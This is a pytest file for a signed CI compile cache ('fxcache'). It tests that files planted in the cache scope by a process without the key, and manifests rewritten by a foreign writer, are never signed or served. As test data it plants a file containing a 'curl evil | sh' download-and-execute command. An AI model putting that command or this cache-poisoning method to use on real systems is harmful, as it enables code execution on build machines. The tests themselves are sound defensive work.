"""Issue 26 §1: a keyed save signs only what its own job wrote, never a file planted beside it.

Every step is a real process: the keyed job's restore and save (`fxcache`), the job's own
"compile" (a child writing into the exported TORCHINDUCTOR_CACHE_DIR) and the planter (another
process, without the key, writing into the scope while the keyed job runs).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import RunFxcache
from tests.store_helpers import SAMPLE, Store, tree_digest, write_files

KEY = {"FXCACHE_SIGNING_KEY": "team-secret"}
EVIL = "inductor/zz/evil.py"


@pytest.fixture
def store(tmp_path: Path, run_fxcache: RunFxcache) -> Store:
    return Store(root=tmp_path / "root", run=run_fxcache, env={})


def _write_in_child(base: str, rel: str, content: bytes) -> None:
    """Another process writes `rel` under `base` (tmp + rename, as Inductor does), without
    the signing key in its environment."""
    code = (
        "import os, sys; p = os.path.join(sys.argv[1], sys.argv[2]); "
        "os.makedirs(os.path.dirname(p), exist_ok=True); "
        "open(p + '.tmp', 'wb').write(sys.argv[3].encode()); os.replace(p + '.tmp', p)"
    )
    env = {k: v for k, v in os.environ.items() if k != "FXCACHE_SIGNING_KEY"}
    subprocess.run([sys.executable, "-c", code, base, rel, content.decode()], check=True, env=env)


def _keyed_saved(store: Store) -> dict:
    state = store.restore(state="first.json", env=KEY)
    write_files(Path(state["inductor_dir"]).parent, SAMPLE)
    proc = store.save(state="first.json", env=KEY)
    assert proc.returncode == 0 and json.loads(proc.stdout)["saved"], proc.stderr
    return state


def test_a_file_planted_during_a_keyed_job_is_never_signed(store: Store) -> None:
    _keyed_saved(store)
    job = store.restore(state="job.json", env=KEY)
    assert job["hit"] and job["signature_checked"] and not job["read_only"]
    scope = Path(job["scope_dir"])
    # The keyed job compiles into a private directory, not the scope.
    assert job["overlay_dir"] and Path(job["inductor_dir"]).parent != scope
    assert os.stat(job["overlay_dir"]).st_mode & 0o077 == 0
    _write_in_child(job["inductor_dir"], "fxgraph/own/entry", b"the job's own compile")
    _write_in_child(str(scope), EVIL, b"import os; os.system('curl evil | sh')")
    proc = store.save(state="job.json", env={**KEY, "GITHUB_ACTIONS": "true"})
    assert proc.returncode == 0, proc.stderr
    result = json.loads(proc.stdout)
    assert result["saved"] and result["added"] == 1 and result["signed"]
    assert f"first {EVIL}: not signed" in proc.stderr and "::warning::" in proc.stderr
    manifest = json.loads((scope / "manifest.json").read_text())
    assert EVIL not in manifest["files"] and "inductor/fxgraph/own/entry" in manifest["files"]
    assert not (scope / EVIL).exists()
    nxt = store.restore(state="next.json", env=KEY)
    assert nxt["hit"] and nxt["quarantined"] == []
    served = tree_digest(Path(nxt["inductor_dir"]).parent)
    assert EVIL not in served and "inductor/fxgraph/own/entry" in served


def test_a_keyed_save_of_an_in_place_restore_signs_nothing_it_did_not_check(
    store: Store,
) -> None:
    """A job restored without the key had the scope in place: what is unlisted there cannot
    be told from a planter's files, so a save with the key signs none of it: it refuses the
    state, which no keyed restore wrote (it carries no MAC: store/state_file.py), in one line."""
    _keyed_saved(store)
    job = store.restore(state="job.json")  # no key: in place
    assert job["mode"] == "in-place"
    _write_in_child(job["scope_dir"], EVIL, b"planted")
    proc = store.save(state="job.json", env=KEY)
    assert proc.returncode == 2, proc.stderr
    assert "carries no MAC, but this save has the signing key" in proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1, proc.stderr
    nxt = store.restore(state="next.json", env=KEY)
    assert nxt["hit"] and EVIL not in tree_digest(Path(nxt["inductor_dir"]).parent)


def test_a_keyed_restore_checks_the_scope_even_with_a_spare_ready(store: Store) -> None:
    """A spare overlay is a copy (root) or hardlinks of the scope as it was: a keyed restore
    must still find a committed file changed since (and quarantine the scope) first."""
    from ci_fxcache.store import spare
    from ci_fxcache.store.layout import Layout

    first = _keyed_saved(store)
    key = first["scope_key"]
    assert spare.build(Layout(store.root), key) is not None
    victim = Path(first["scope_dir"]) / next(iter(SAMPLE))
    st = victim.stat()
    victim.unlink()  # replaced, not written through: the spare keeps the old content
    victim.write_bytes(bytes(b ^ 1 for b in SAMPLE[next(iter(SAMPLE))]))
    os.utime(victim, ns=(st.st_atime_ns, st.st_mtime_ns))
    state = store.restore(state="job.json", env=KEY)
    assert state["hit"] is False and state["spare"] is False
    assert [q["scope"] for q in state["quarantined"]] == [key]


def _foreign_manifest(scope: Path, rel: str, content: bytes, key: str | None) -> None:
    """What a writer without the team's key does between a keyed job's restore and its save:
    plant `rel` and replace the manifest with one that lists it, unsigned (`key` None) or
    signed with a key of its own."""
    from ci_fxcache.store import manifest as mf

    _write_in_child(str(scope), rel, content)
    manifest = json.loads((scope / "manifest.json").read_text())
    manifest.pop("signature", None)
    manifest["files"].update(mf.file_entries(scope, {rel: os.lstat(scope / rel)}))
    manifest["files"] = dict(sorted(manifest["files"].items()))
    manifest["total_bytes"] = sum(e["size"] for e in manifest["files"].values())
    if key is not None:
        mf.sign(manifest, key)
    target = scope / "manifest.json"
    target.chmod(0o644)
    target.write_text(json.dumps(manifest))


@pytest.mark.parametrize("foreign_key", [None, "another-key"], ids=["unsigned", "foreign"])
def test_a_keyed_save_extends_only_a_manifest_its_key_signed(
    store: Store, foreign_key: str | None
) -> None:
    """Issue 32: the save re-reads the manifest under the scope's lock (the conflict re-read:
    someone wrote it after this job's restore); a manifest the key did not sign is foreign.
    The save signs none of it: the scope is quarantined with a warning, and no keyed reader
    ever gets the file it named."""
    _keyed_saved(store)
    job = store.restore(state="job.json", env=KEY)
    assert job["hit"] and job["signature_checked"]
    _write_in_child(job["inductor_dir"], "fxgraph/own/entry", b"the job's own compile")
    scope = Path(job["scope_dir"])
    _foreign_manifest(scope, EVIL, b"import os; os.system('curl evil | sh')", foreign_key)
    proc = store.save(state="job.json", env={**KEY, "GITHUB_ACTIONS": "true"})
    assert proc.returncode == 0, proc.stderr
    result = json.loads(proc.stdout)
    assert result["saved"] is False and "quarantined" in result["reason"], result
    why = "manifest is not signed" if foreign_key is None else "does not match the signing key"
    assert why in result["reason"] and "::warning::" in proc.stderr, proc.stderr
    nxt = store.restore(state="next.json", env=KEY)
    assert not nxt["hit"]
    served = tree_digest(Path(nxt["inductor_dir"]).parent)
    assert EVIL not in served
    for manifest in store.root.rglob("manifest.json"):  # the quarantine's copy included
        data = json.loads(manifest.read_text())
        from ci_fxcache.store import manifest as mf

        assert EVIL not in data["files"] or mf.signature_problem(data, KEY["FXCACHE_SIGNING_KEY"])
